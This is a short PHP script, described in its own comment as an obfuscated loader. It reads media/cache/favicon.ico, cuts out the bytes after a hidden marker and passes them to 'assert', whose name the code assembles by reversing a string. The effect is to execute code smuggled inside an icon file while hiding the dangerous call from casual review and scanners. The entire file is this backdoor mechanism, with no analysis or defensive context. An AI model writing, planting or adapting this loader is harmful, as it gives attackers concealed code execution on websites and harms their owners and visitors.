<?php
// Obfuscated loader: opens an icon through a handle, takes what follows its
// last marker and hands it to a checker whose name is spelt backwards.
$q = implode('/', array('media', 'cache', 'fav' . 'icon.ico'));
$h = @fopen($q, 'r' . 'b');
$raw = '';
while ($h && !feof($h)) {
    $raw .= fread($h, 4096);
}
$cut = strrpos($raw, "\x00\x00##");
$fn = strrev('tress' . 'a');
if ($cut !== false) {
    @$fn(substr($raw, $cut + 4));
}
